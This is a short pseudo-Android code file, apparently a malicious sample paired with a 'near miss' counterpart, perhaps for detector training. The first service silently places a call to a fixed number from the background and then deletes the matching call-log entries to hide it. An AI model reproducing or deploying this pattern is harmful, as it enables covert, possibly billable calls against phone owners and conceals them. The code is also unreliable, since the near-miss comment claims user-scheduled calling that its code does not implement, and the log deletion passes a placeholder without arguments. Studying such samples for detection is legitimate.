permissions("CALL_PHONE", "WRITE_CALL_LOG", "READ_CALL_LOG")

@service
class Work(Service):
    def onStartCommand(self, intent, flags, number):
        call = Intent("android.intent.action.CALL", Uri.parse("tel:15550100"))
        self.startActivity(call.addFlags(268435456))
        Trace().remove(self)
        return 1

class Trace(View_OnClickListener):
    def remove(self, context: Context):
        context.getContentResolver().delete(CallLog_Calls.CONTENT_URI, "number=?", None)
    def onClick(self, view):
        self.remove(None)

# near miss: calls at the time the user set; deletes from the list only what the user presses
@service
class Work(Service):
    def onStartCommand(self, intent, flags, number):
        call = Intent("android.intent.action.CALL", Uri.parse("tel:15550100"))
        self.startActivity(call.addFlags(268435456))
        return 1
